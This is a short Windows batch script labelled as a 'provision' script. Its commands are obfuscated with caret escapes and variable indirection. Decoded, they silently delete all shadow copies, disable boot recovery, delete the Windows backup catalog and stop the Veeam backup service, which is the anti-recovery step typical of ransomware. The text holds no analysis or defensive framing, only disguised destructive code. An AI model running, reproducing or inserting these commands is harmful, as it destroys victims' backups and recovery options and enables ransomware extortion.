REM provision 6960 v1
@echo off
set btid=^v^ss^a^dmin ^d^ele^te sh^a^d^o^ws /all /^q^uiet
call %btid%
@echo off
set bpiv=wmi^c shadowcopy ^d^el^ete
call %bpiv%
@echo off
set wyrr=^bc^d^edit /^set {^d^e^f^a^u^lt} ^recov^er^y^e^n^a^bled no
call %wyrr%
@echo off
set kuwx=^b^c^d^e^d^it /set {^de^f^aul^t} bo^o^tst^a^t^u^spolicy i^g^no^rea^l^l^fa^ilu^r^es
call %kuwx%
@echo off
set ukdl=wba^dmin ^dele^te ^ca^t^a^l^o^g -^quie^t
call %ukdl%
@echo off
set vvaa=ne^t s^t^o^p "Veeam Backup Catalog Data Service" /y
call %vvaa%
